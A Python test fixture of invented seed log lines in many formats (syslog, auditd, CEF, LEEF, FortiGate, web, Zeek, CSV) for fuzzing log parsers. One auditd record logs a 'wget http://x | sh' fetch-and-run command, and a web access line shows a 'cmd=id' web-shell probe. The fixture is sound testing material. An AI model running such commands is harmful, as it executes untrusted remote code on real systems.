"""Lines as the devices write them, made up for these tests; the hostile-input test mutates them."""

from __future__ import annotations

SEEDS: dict[str, tuple[str, ...]] = {
    "rfc3164": (
        "Mar  1 03:14:07 web01 sshd[2212]: Failed password for invalid user oracle from 203.0.113.9 port 51122 ssh2",
        "<38>Mar  1 03:14:07 web01 sshd[2212]: Accepted publickey for deploy from 2001:db8::7 port 40022 ssh2: ED25519 SHA256:abc",
        "2026-03-01T03:14:07.123456+01:00 web01 sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls ; x",
        "Mar  1 03:14:07 web01 CRON[4001]: (root) CMD (   /usr/local/bin/backup.sh)",
        "Mar  1 03:14:07 web01 kernel: [12345.678901] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.5 DST=10.0.0.4 PROTO=TCP SPT=4444 DPT=22",
        "<134>Mar  1 03:14:07 filterlog[51021]: 5,,,1000000103,igb0,match,block,in,4,0x0,,64,1,0,DF,6,tcp,60,203.0.113.5,10.0.0.4,51515,3389,0,S,1,,64240,,mss",
        "Mar  1 03:14:07 fw CEF:0|Palo Alto Networks|PAN-OS|10.1|threat|Brute|8|src=203.0.113.5 dst=10.0.0.4 msg=a b",
        "172.16.5.10 6705: Feb 17 13:40:03.673: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:clear logging",
        "<166>Mar 01 2026 03:14:07: %ASA-6-302013: Built inbound TCP connection 1 for outside:203.0.113.5/4444 to inside:10.0.0.4/23",
        '<13>Mar  1 03:14:07 app1 myapp: {"level":"warn","user":"bob","n":{"x":1}}',
        "Mar  1 03:14:07 web01 audispd: type=EXECVE msg=audit(1772334847.123:456): argc=1 a0=6C73",
        "<14>Mar  1 03:14:07 nas1 WinFileService Event: delete, Path: /backup, File/Folder: Folder, User: bob, IP: 10.0.0.9",
        "<30>Mar  1 03:14:07 qnap1 qulogd[1]: conn log: Users: admin, Source IP: 203.0.113.5, Action: Login Fail",
    ),
    "rfc5424": (
        '<165>1 2026-03-01T03:14:07.003Z host.example app 99 ID47 [ex@32473 iut="3" q="a\\"b\\]"][o@1 k="v"] An event',
        "<34>1 2026-03-01T03:14:07-07:00 - su - - - 'su root' failed for bob",
    ),
    "auditd": (
        'type=EXECVE msg=audit(1772334847.123:456): argc=3 a0="cat" a1=2F746D702F612062 a2="-n"',
        (
            'node=db1 type=USER_LOGIN msg=audit(1772334847.123:457): pid=1 uid=0 auid=1000 msg=\'op=login acct="root" '
            'exe="/usr/sbin/sshd" hostname=203.0.113.5 addr=203.0.113.5 terminal=ssh res=failed\'\x1dUID="root"'
        ),
        "type=SOCKADDR msg=audit(1772334847.123:458): saddr=02000050CB0071050000000000000000",
        "type=EXECVE msg=audit(03/01/2026 03:14:07.123:456) : argc=3 a0=sh a1=-c a2=wget http://x | sh",
    ),
    "cef": (
        "CEF:0|Trend Micro|Deep Security|20|4000000|Eicar \\| test|6|filePath=C:\\\\x.exe dvchost=srv cs1Label=A cs1=b c rt=1772334847000",
    ),
    "leef": (
        "LEEF:2.0|Check Point|VPN-1|1.0|login|^|src=203.0.113.5^dst=10.0.0.4^usrName=bob^devTime=Mar 01 2026 03:14:07",
        "LEEF:1.0|Microsoft|Exchange|4.0|15345|src=192.0.2.0\tdst=172.50.123.1\tsev=5\tsrcPort=81",
    ),
    "fortigate": (
        (
            '<189>date=2026-03-01 time=03:14:07 devname="FGT60" devid="FG1" logid="0100044547" type="event" subtype="system" '
            'eventtime=1772334847123456789 tz="+0100" user="admin" action="Add" cfgpath="system.admin" msg="Add \\"x\\""'
        ),
        "date=2026-03-01 time=03:14:07 devname=FGT60 logid=0000000013 type=traffic srcip=10.0.0.5 dstip=203.0.113.9 dstport=23 action=accept",
    ),
    "key_value": ('srcip=10.0.0.1 dstip=10.0.0.2 dstport=23 action=pass user="a b" time=1772334847',),
    "web_access": (
        '203.0.113.5 - alice [01/Mar/2026:03:14:07 +0100] "GET /a/b.php?cmd=id HTTP/1.1" 200 512 "-" "Mozilla/5.0 \\"q\\"" 0.012',
        'shop.example.org:443 2001:db8::9 - - [01/Mar/2026:03:14:07 +0000] "POST http://x/wp-login.php HTTP/2.0" 302 -',
    ),
    "web_error": (
        "[Sun Mar 01 03:14:07.123456 2026] [core:notice] [pid 1234:tid 140] [client 203.0.113.5:5555] AH00052: child pid 99 exit signal Segmentation fault (11)",
        '2026/03/01 03:14:07 [error] 77#77: *5 open() failed, client: 203.0.113.5, server: x.org, request: "GET /x HTTP/1.1", host: "x.org"',
    ),
    "daemon_log": (
        'Sun Mar  1 03:14:07 2026 [pid 2] [bob] FAIL LOGIN: Client "203.0.113.5"',
        "Sun Mar  1 03:14:07 2026 -> /srv/x.exe: Win.Trojan.Agent-1 FOUND",
    ),
    "w3c": (
        "#Software: Microsoft Internet Information Services 10.0",
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status time-taken",
        "2026-03-01 03:14:07 10.0.0.4 GET /owa/auth.aspx a=1 443 - 203.0.113.5 Mozilla/5.0+(X) - 200 15",
    ),
    "zeek_tsv": (
        "#separator \\x09",
        "#set_separator\t,",
        "#path\tdns",
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tquery\tanswers\trejected\trtt",
        "#types\ttime\tstring\taddr\tport\tstring\tvector[string]\tbool\tinterval",
        "1772334847.123456\tCabc123456789\t10.0.0.5\t5353\tex\\xc3ample.org\ta,b\tF\t0.5",
    ),
    "csv": (
        "CreationDate,UserIds,Operations,AuditData",
        '2026-03-01T03:14:07.0000000Z,bob@example.org,New-InboxRule,"{""CreationTime"":""2026-03-01T03:14:07"",""Operation"":""New-InboxRule""}"',
        '"open, and',
        'closed",b,c,{}',
    ),
    "text": ("any line at all",),
}
